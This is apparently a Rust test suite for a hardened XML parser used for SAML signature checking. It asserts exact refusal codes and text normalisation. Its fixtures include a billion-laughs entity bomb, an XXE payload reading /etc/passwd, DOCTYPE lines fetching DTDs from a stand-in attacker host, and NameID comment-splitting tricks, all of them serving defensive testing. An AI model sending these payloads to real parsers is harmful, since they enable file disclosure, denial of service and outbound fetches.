//! The hardened parser's refusals, each with its exact error code, and the normalisations it
//! must get right for canonicalization and for reading signed values.
#![expect(
    clippy::panic,
    reason = "test helpers outside #[test] functions: a panic is a failed test"
)]

use jsm_sso_xmldsig::{CodedError, Document, Limits, Node, XmlError};

fn parse_with(input: &[u8], limits: &Limits) -> Result<Document, XmlError> {
    Document::parse(input, limits)
}

fn parse(input: &[u8]) -> Result<Document, XmlError> {
    parse_with(input, &Limits::default())
}

/// Asserts that every input is refused with `code`.
#[track_caller]
fn refused(code: &str, inputs: &[&[u8]]) {
    refused_with(code, &Limits::default(), inputs);
}

#[track_caller]
fn refused_with(code: &str, limits: &Limits, inputs: &[&[u8]]) {
    for input in inputs {
        match parse_with(input, limits) {
            Ok(_) => panic!(
                "accepted, expected {code}: {:?}",
                String::from_utf8_lossy(input)
            ),
            Err(e) => assert_eq!(
                e.code(),
                code,
                "wrong code for {:?}: {e}",
                String::from_utf8_lossy(input)
            ),
        }
    }
}

#[track_caller]
fn accepted(input: &[u8]) -> Document {
    parse(input).unwrap_or_else(|e| panic!("refused {:?}: {e}", String::from_utf8_lossy(input)))
}

const BILLION_LAUGHS: &[u8] = br#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"#;

const XXE_SYSTEM: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&xxe;</samlp:Response>"#;

#[test]
fn doctype_is_refused_in_every_form() {
    refused(
        "xml.doctype",
        &[
            BILLION_LAUGHS,
            XXE_SYSTEM,
            b"<!DOCTYPE a><a/>",
            b"<!DOCTYPE a []><a/>",
            br#"<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>"#,
            br#"<!DOCTYPE a PUBLIC "-//X//Y//EN" "http://attacker.example/x.dtd"><a/>"#,
            br#"<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><a/>"#,
            br#"<!DOCTYPE a [<!ATTLIST a ID ID #IMPLIED>]><a ID="x"/>"#,
            b"<!-- before --><!DOCTYPE a><a/>",
            b"\xEF\xBB\xBF<!DOCTYPE a><a/>",
        ],
    );
}

#[test]
fn the_ruby_saml_xxe_vector_is_refused_as_a_doctype() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/testdata/c14n/ruby-saml/attackxee.xml"
    );
    let input = std::fs::read(path).expect("testdata/c14n/ruby-saml/attackxee.xml");
    refused("xml.doctype", &[&input]);
}

#[test]
fn entities_other_than_the_predefined_five_are_refused() {
    refused(
        "xml.entity",
        &[
            b"<a>&foo;</a>",
            b"<a>&xxe;</a>",
            br#"<a b="&foo;"/>"#,
            b"<a>&AMP;</a>",
            b"<a>&nbsp;</a>",
        ],
    );
}

#[test]
fn bad_character_references_are_refused() {
    refused(
        "xml.char_ref",
        &[
            b"<a>&#0;</a>",
            b"<a>&#x0;</a>",
            b"<a>&#xD800;</a>",
            b"<a>&#xDFFF;</a>",
            b"<a>&#x110000;</a>",
            b"<a>&#1;</a>",
            b"<a>&#x1F;</a>",
            b"<a>&#xFFFE;</a>",
            b"<a>&#xFFFF;</a>",
            b"<a>&#99999999999999999999;</a>",
            b"<a>&#x;</a>",
            b"<a>&#;</a>",
            b"<a>&#x12G;</a>",
            b"<a>&#X41;</a>",
            br#"<a b="&#0;"/>"#,
            br#"<a b="&#xD800;"/>"#,
        ],
    );
}

#[test]
fn forbidden_raw_characters_are_refused() {
    refused(
        "xml.char",
        &[
            b"<a>\x01</a>",
            b"<a>x\x1Fy</a>",
            b"<a b=\"\x01\"/>",
            b"<a>\x00</a>",
            b"<a><!--\x02--></a>",
            "<a>\u{FFFE}</a>".as_bytes(),
            "<a>\u{FFFF}</a>".as_bytes(),
        ],
    );
}

#[test]
fn undeclared_prefixes_are_refused() {
    refused(
        "xml.undeclared_prefix",
        &[
            b"<p:a/>",
            br#"<a p:x="1"/>"#,
            br#"<r><a xmlns:p="urn:p"/><p:b/></r>"#,
            br#"<r><a xmlns:p="urn:p"/><b p:x="1"/></r>"#,
            br#"<p:a xmlns:q="urn:q"/>"#,
        ],
    );
}

#[test]
fn duplicate_attributes_are_refused_also_after_namespace_resolution() {
    refused(
        "xml.duplicate_attribute",
        &[
            br#"<a x="1" x="2"/>"#,
            br#"<a xmlns:a="urn:u" a:x="1" a:x="2"/>"#,
            br#"<a xmlns:a="urn:u" xmlns:b="urn:u" a:x="1" b:x="2"/>"#,
            br#"<r xmlns:a="urn:u"><e xmlns:b="urn:u" b:x="1" a:x="2"/></r>"#,
            br#"<a xmlns:p="urn:u" xmlns:p="urn:v"/>"#,
        ],
    );
    // Same local name in different namespaces, or with and without one, is fine.
    accepted(br#"<a xmlns:a="urn:u" xmlns:b="urn:v" x="0" a:x="1" b:x="2"/>"#);
}

#[test]
fn forbidden_namespace_declarations_are_refused() {
    refused(
        "xml.namespace",
        &[
            br#"<a xmlns:xmlns="urn:x"/>"#,
            br#"<a xmlns:p="http://www.w3.org/2000/xmlns/"/>"#,
            br#"<a xmlns="http://www.w3.org/2000/xmlns/"/>"#,
            br#"<a xmlns:xml="urn:not-xml"/>"#,
            br#"<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>"#,
            br#"<a xmlns="http://www.w3.org/XML/1998/namespace"/>"#,
            br#"<a xmlns:p=""/>"#,
            br#"<r xmlns:p="urn:p"><a xmlns:p=""/></r>"#,
            br#"<xmlns:a/>"#,
            // Relative namespace URIs: Canonical XML 1.0 must fail on them.
            br#"<a xmlns="ns"/>"#,
            br#"<a xmlns:p="myns"/>"#,
        ],
    );
    accepted(br#"<a xmlns:xml="http://www.w3.org/XML/1998/namespace" xml:lang="en"/>"#);
    accepted(br#"<r xmlns="urn:d"><a xmlns=""/></r>"#);
}

#[test]
fn invalid_names_are_refused() {
    refused(
        "xml.name",
        &[
            b"<1a/>",
            b"<a:b:c xmlns:a=\"urn:a\"/>",
            b"<-a/>",
            br#"<a 1b="x"/>"#,
            br#"<a b:c:d="x"/>"#,
            b"<a><?1pi x?></a>",
        ],
    );
}

#[test]
fn invalid_utf8_is_refused() {
    refused(
        "xml.utf8",
        &[
            b"<a>\xFF</a>",
            b"<a>\xC3</a>",
            b"<a>\xC0\xAF</a>",
            b"<a>\xED\xA0\x80</a>",
            b"<a b=\"\xE9\"/>",
            b"\xFF\xFE<\x00a\x00/\x00>\x00",
        ],
    );
}

#[test]
fn unsupported_xml_declarations_are_refused() {
    refused(
        "xml.declaration",
        &[
            br#"<?xml version="1.0" encoding="ISO-8859-1"?><a/>"#,
            br#"<?xml version="1.0" encoding="UTF-16"?><a/>"#,
            br#"<?xml version="1.1"?><a/>"#,
            br#"<?xml version="2.0" encoding="UTF-8"?><a/>"#,
            br#"<?xml version="1.0" standalone="maybe"?><a/>"#,
            br#"<?xml version="1.0"encoding="UTF-8"?><a/>"#,
        ],
    );
    accepted(br#"<?xml version="1.0" encoding="utf-8" standalone="yes"?><a/>"#);
    accepted(br#"<?xml version='1.0' encoding='UTF-8'?><a/>"#);
}

#[test]
fn malformed_documents_are_refused() {
    refused(
        "xml.malformed",
        &[
            b"<a></b>",
            b"<a><b></a></b>",
            b"<a/><b/>",
            b"<a></a><a></a>",
            b"text<a/>",
            b"<a/>text",
            b"<a/>&amp;",
            b"<a>",
            b"<a><b>",
            b"<a",
            b"",
            b"   ",
            b"<!-- only a comment -->",
            b"<a>]]></a>",
            br#"<a b="<"/>"#,
            br#"<a b="&amp"/>"#,
            b"<a>&amp</a>",
            b"<a>& b</a>",
            b"<a><!-- a -- b --></a>",
            b" <?xml version=\"1.0\"?><a/>",
            b"<a/><?xml version=\"1.0\"?>",
            b"<a b=c/>",
            b"<a b/>",
            b"<a b='1'c='2'/>",
        ],
    );
}

#[test]
fn limits_are_enforced() {
    refused_with(
        "xml.too_large",
        &Limits::default().with_max_bytes(16),
        &[b"<a>0123456789</a>"],
    );
    accepted(b"<a>0123456789</a>");
    assert!(parse_with(b"<a>012345678</a>", &Limits::default().with_max_bytes(16)).is_ok());

    let depth3 = Limits::default().with_max_depth(3);
    assert!(parse_with(b"<a><b><c/></b></a>", &depth3).is_ok());
    refused_with("xml.too_deep", &depth3, &[b"<a><b><c><d/></c></b></a>"]);

    let attrs2 = Limits::default().with_max_attributes(2);
    assert!(parse_with(br#"<a x="1" y="2"/>"#, &attrs2).is_ok());
    refused_with(
        "xml.too_many_attributes",
        &attrs2,
        &[
            br#"<a x="1" y="2" z="3"/>"#,
            br#"<a xmlns:p="urn:p" x="1" p:y="2"/>"#,
        ],
    );

    let nodes5 = Limits::default().with_max_nodes(5);
    // The document node, <a>, <b>, text, <c>: five.
    assert!(parse_with(b"<a><b/>t<c/></a>", &nodes5).is_ok());
    refused_with(
        "xml.too_many_nodes",
        &nodes5,
        &[b"<a><b/>t<c/><!--x--></a>", b"<a><b/><c/><d/><e/></a>"],
    );
}

#[test]
fn default_depth_limit_is_64() {
    let nest = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
    assert!(parse(nest(64).as_bytes()).is_ok());
    refused("xml.too_deep", &[nest(65).as_bytes()]);
}

#[test]
fn comments_cdata_and_pis_do_not_cut_text_short() {
    for input in [
        "<NameID>a@evil.example<!---->.good.example</NameID>",
        "<NameID>a@evil.example<!-- x -->.good.example</NameID>",
        "<NameID>a@evil.example<![CDATA[]]>.good.example</NameID>",
        "<NameID><![CDATA[a@evil.example]]>.good.example</NameID>",
        "<NameID>a@evil.example<?pi x?>.good.example</NameID>",
        "<NameID>a@evil&#x2E;example<!---->&#46;good.example</NameID>",
    ] {
        let doc = accepted(input.as_bytes());
        assert_eq!(doc.root().text(), "a@evil.example.good.example", "{input}");
    }
}

#[test]
fn line_endings_are_normalised() {
    let doc = accepted(b"<a>1\r\n2\r3\n4\r\r\n5<![CDATA[\r\n]]></a>");
    assert_eq!(doc.root().text(), "1\n2\n3\n4\n\n5\n");
    // A carriage return written as a reference survives.
    let doc = accepted(b"<a>1&#xD;\r\n2&#13;</a>");
    assert_eq!(doc.root().text(), "1\r\n2\r");
}

#[test]
fn attribute_white_space_is_normalised() {
    let doc = accepted(b"<a x=\"1\t2\n3\r\n4\r5  6\" y=\"&#9;&#xA;&#xD;&#x20;\"/>");
    assert_eq!(doc.root().attribute("x"), Some("1 2 3 4 5  6"));
    assert_eq!(doc.root().attribute("y"), Some("\t\n\r "));
}

#[test]
fn predefined_and_character_references_resolve() {
    let doc = accepted(b"<a v='&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;'>&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;</a>");
    assert_eq!(doc.root().attribute("v"), Some("<>&\"'A\u{1F600}"));
    assert_eq!(doc.root().text(), "<>&\"'A\u{1F600}");
}

#[test]
fn a_utf8_bom_is_accepted() {
    let doc = accepted(b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>x</a>");
    assert_eq!(doc.root().text(), "x");
    let doc = accepted(b"\xEF\xBB\xBF<a/>");
    assert_eq!(doc.root().local_name(), "a");
}

#[test]
fn children_keep_their_kinds() {
    let doc = accepted(b"<a>t<![CDATA[c]]><!--m--><?p d?><b/></a>");
    let kinds: Vec<&str> = doc
        .root()
        .children()
        .map(|n| match n {
            Node::Text(_) => "text",
            Node::CData(_) => "cdata",
            Node::Comment(_) => "comment",
            Node::ProcessingInstruction { .. } => "pi",
            Node::Element(_) => "element",
            _ => "other",
        })
        .collect();
    assert_eq!(kinds, ["text", "cdata", "comment", "pi", "element"]);
}
